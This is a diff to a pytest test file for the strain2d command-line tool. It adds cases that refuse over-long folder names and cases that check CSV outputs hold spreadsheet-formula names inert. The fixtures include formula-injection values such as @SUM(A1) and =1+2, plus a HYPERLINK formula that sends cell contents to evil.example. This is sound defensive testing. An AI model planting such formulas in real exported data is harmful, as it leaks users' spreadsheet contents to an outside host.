@@ -15,6 +15,7 @@ import tifffile
 
 from strain2d.cli import main
 from tests.badinput import (
+    assert_inert,
     assert_refused,
     interrupt,
     parse_case_id,
@@ -23,6 +24,7 @@ from tests.badinput import (
 )
 
 PROG = "strain2d"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 
 
 @pytest.fixture(scope="module")
@@ -154,7 +156,28 @@ def inputs(small_case, tmp_path_factory):
         (d / f"batch_manifest_{name}.csv").write_text(
             text.replace("run,", "video,", 1).replace("run_ok", "eq.avi")
         )
+    # batch manifests: a name too long for a folder, names a spreadsheet would run
+    (d / "batch_long_name.csv").write_text(f"video,specimen\neq.avi,{'x' * 300}\n")
+    (d / "batch_formula.csv").write_text(
+        'video,specimen,group\neq.avi,@SUM(A1),"' + HYPERLINK.replace('"', '""') + '"\n'
+    )
     return c
+
+
+@pytest.fixture(scope="module")
+def formula_runs(inputs, tmp_path_factory):
+    """A run folder under names a spreadsheet would run, and a study manifest naming it so."""
+    d = tmp_path_factory.mktemp("formula_runs")
+    argv = ["-q", "analyze", str(inputs.avi), "--grid", "3x3", "--animation", "none"]
+    assert main([*argv, "--out", str(d / "=1+2")]) == 0
+    shutil.copytree(d / "=1+2", d / "\t@tab")
+    group = '"' + HYPERLINK.replace('"', '""') + '"'
+    (d / "manifest.csv").write_text(f"run,specimen,group\n=1+2,+A1,{group}\n=1+2,-2+3,@SUM(A1)\n")
+    return d
+
+
+def _batch(c, *extra):
+    return ["-q", "batch", "--workers", "1", "--grid", "3x3", "--animation", "none", *extra]
 
 
 def _analyze(c, *extra):
@@ -362,6 +385,21 @@ CASES = [
     ("study-conflict-runs-and-manifest", lambda c, o: ["study", c.dir / "not_a_run",
      "--manifest", c.dir / "manifest_norun.csv", "--out", o], ["--manifest"]),
     ("study-conflict-nothing-to-combine", lambda c, o: ["study", "--out", o], ["run folders"]),
+    # ---- names longer than a folder's name may be: refused before any folder is made
+    ("analyze-output-name-too-long", lambda c, o: _analyze(c, "--out", o.parent / ("x" * 250)),
+     ["--out", "250 bytes long", "at most 241"]),
+    ("batch-csv-specimen-name-too-long", lambda c, o: _batch(c, c.dir / "batch_long_name.csv",
+     "--out", o), ["batch_long_name.csv, line 2", "specimen", "300 bytes long"]),
+    ("batch-output-name-too-long", lambda c, o: _batch(c, c.dir / "batch_formula.csv", "--out",
+     o / ("x" * 300)), ["--out", "300 bytes long"]),
+    # ---- names a spreadsheet would run as formulas: accepted, and every CSV holds them inert
+    # (fragments None: see tests.badinput.assert_inert)
+    ("batch-formula-specimen-and-group", lambda c, o: _batch(c, c.dir / "batch_formula.csv",
+     "--out", o), None),
+    ("study-formula-manifest-names", lambda c, o: ["study", "--manifest",
+     c.runs / "manifest.csv", "--out", o], None),
+    ("study-formula-run-folder-names", lambda c, o: ["study", c.runs / "=1+2", c.runs / "\t@tab",
+     "--out", o], None),
 ]
 # fmt: on
 
@@ -409,21 +447,27 @@ ALL = CASES + _output_cases()
 
 
 @pytest.mark.parametrize(("case", "build", "fragments"), ALL, ids=[c[0] for c in ALL])
-def test_bad_input(inputs, tmp_path, capsys, monkeypatch, case, build, fragments):
+def test_bad_input(inputs, tmp_path, capsys, monkeypatch, request, case, build, fragments):
     monkeypatch.chdir(inputs.dir)
     out = tmp_path / "out"
+    read = [inputs.dir]
+    if case.startswith("study-formula-"):
+        inputs.runs = request.getfixturevalue("formula_runs")
+        read.append(inputs.runs)
     argv = [str(a) for a in build(inputs, out)]
     if "-q" not in argv:
         argv = ["-q", *argv]
-    assert_refused(main, argv, capsys, prog=PROG, fragments=fragments, inputs=[inputs.dir],
-                   out=out)  # fmt: skip
+    if fragments is None:  # accepted: see tests.badinput.assert_inert
+        assert_inert(main, argv, capsys, out=out, inputs=read)
+        return
+    assert_refused(main, argv, capsys, prog=PROG, fragments=fragments, inputs=read, out=out)
     assert not out.exists()
 
 
 def test_bad_input_cases_name_their_command_and_family():
     for case, *_ in ALL:
         command, _family, name = parse_case_id(case)
-        assert command in ("analyze", "track", "study", "benchmark", "batch") and name, case
+        assert command in ("analyze", "track", "study", "batch", "benchmark") and name, case
     assert len({case for case, *_ in ALL}) == len(ALL)
 
 
